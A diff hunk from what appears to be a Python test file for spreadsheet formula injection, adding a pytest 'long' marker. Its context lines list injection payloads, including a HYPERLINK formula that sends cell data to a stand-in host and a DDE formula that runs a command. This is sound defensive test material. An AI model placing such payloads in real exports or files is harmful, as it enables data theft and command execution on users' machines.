@@ -22,6 +22,7 @@ STARTS = ("=", "+", "-", "@", "\t", "\r")
 NASTY = ('=HYPERLINK("http://example.invalid/?"&A1,"log")', "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "=cmd|' /C calc'!A0")
 
 
+pytestmark = pytest.mark.long
 def record(path: Path, system: str = TANK) -> None:
     """A record whose every text is a formula to a careless program."""
     with path.open("w", encoding="utf-8", newline="") as file:
